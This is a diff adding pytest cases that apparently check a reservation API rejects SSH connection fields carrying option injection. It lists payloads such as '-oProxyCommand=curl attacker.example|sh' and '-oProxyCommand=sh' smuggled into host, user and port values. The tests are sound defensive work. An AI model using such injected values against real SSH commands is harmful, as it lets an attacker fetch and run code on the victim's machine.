@@ -344,6 +344,47 @@ def test_it_answers_bad_events_with_a_400(api_client, seller, launching, body, c
     assert Reservation.objects.get(pk=launching.pk).status == S.LAUNCHING
 
 
+@pytest.mark.parametrize(
+    "connection",
+    [
+        {"host": "-oProxyCommand=curl attacker.example|sh", "port": 22, "user": "ubuntu"},
+        {"host": "gpu-7.acme.example", "port": 22, "user": "-oProxyCommand=sh"},
+        {"host": "gpu-7.acme.example -oProxyCommand=sh", "port": 22, "user": "ubuntu"},
+        {"host": "gpu-7.acme.example", "port": "22 -oProxyCommand=sh", "user": "ubuntu"},
+        {"host": "gpu-7.acme.example", "port": 0, "user": "ubuntu"},
+        {"host": "gpu-7.acme.example", "port": 70000, "user": "ubuntu"},
+        {"host": "gpu-7.acme.example", "port": True, "user": "ubuntu"},
+        {"host": "gpu-7.acme.example", "port": 22, "user": "root@evil.example"},
+        {"host": ["gpu-7.acme.example"], "port": 22, "user": "ubuntu"},
+    ],
+)
+def test_it_refuses_connection_details_that_are_not_what_they_say(
+    api_client, seller, launching, connection
+):
+    # the buyer is shown `ssh user@host -p port`: an option smuggled in any part would run
+    response = post_event(
+        api_client, seller, launching, id="e", type="running", connection=connection
+    )
+    assert response.status_code == 400, response.content
+    assert "connection" in response.json()["error"]["fields"]
+    assert Reservation.objects.get(pk=launching.pk).status == S.LAUNCHING
+
+
+@pytest.mark.parametrize(
+    "connection",
+    [
+        {"host": "203.0.113.7", "port": "2222", "user": "ubuntu"},
+        {"host": "2001:db8::7", "port": 22, "user": "ml_user.1"},
+        {"host": "gpu-7.acme.example.", "port": 65535, "user": "_svc"},
+    ],
+)
+def test_it_takes_host_names_addresses_users_and_ports(api_client, seller, launching, connection):
+    response = post_event(
+        api_client, seller, launching, id="e", type="running", connection=connection
+    )
+    assert response.status_code == 200, response.content
+
+
 def test_it_refuses_an_unpaired_surrogate_in_the_connection(api_client, seller, launching):
     # JSON may escape half a surrogate pair, which jsonb cannot store: validation refuses it
     body = '{"id": "e", "type": "running", "connection": {"host": "gpu-\\ud800"}}'
